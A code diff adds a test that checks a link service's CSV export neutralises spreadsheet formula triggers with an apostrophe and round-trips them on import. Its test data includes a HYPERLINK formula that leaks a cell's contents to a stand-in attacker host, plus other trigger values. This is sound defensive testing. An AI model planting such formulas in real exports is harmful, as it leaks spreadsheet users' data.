@@ -149,6 +149,28 @@ describe("export, then import into an empty domain, then export", () => {
   });
 });
 
+describe("CSV cells that a spreadsheet would run", () => {
+  it("come out of the export defused with an apostrophe, and an import of that file gives them back exactly", async () => {
+    const { hostname } = await fixtures.add();
+    const titles = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1", "-2", "@SUM(A1)", "\tTabbed", "'already quoted", "plain"];
+    const bulk = await call("POST", "/api/v1/links/bulk", {
+      body: { links: titles.map((title, i) => ({ url: `https://example.com/formula/${i}`, slug: `formula-${i}`, domain: hostname, title })) },
+    });
+    expect(bulk.status).toBe(200);
+    const csv = await exportOf(hostname);
+    const lines = csv.split("\r\n");
+    // No cell of any row starts with a formula trigger (quoted or not).
+    for (const line of lines.slice(1, -1)) expect(line, line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
+    expect(csv).toContain(",''already quoted,");
+    await withDb((db) => db.delete(links).where(eq(links.domain, hostname)));
+    expect((await importFile(csv)).report).toMatchObject({ format: "csv", created: titles.length, failed: 0 });
+    const back = await linksOn(hostname);
+    expect(back.map((l) => l.title).sort()).toEqual([...titles].sort());
+    expect(await exportOf(hostname)).toBe(csv);
+  });
+});
+
 describe("more rows than one request applies", () => {
   it("answers 202 and finishes in the background; GET /api/v1/imports/{id} reports the progress", async () => {
     const { hostname } = await fixtures.add();
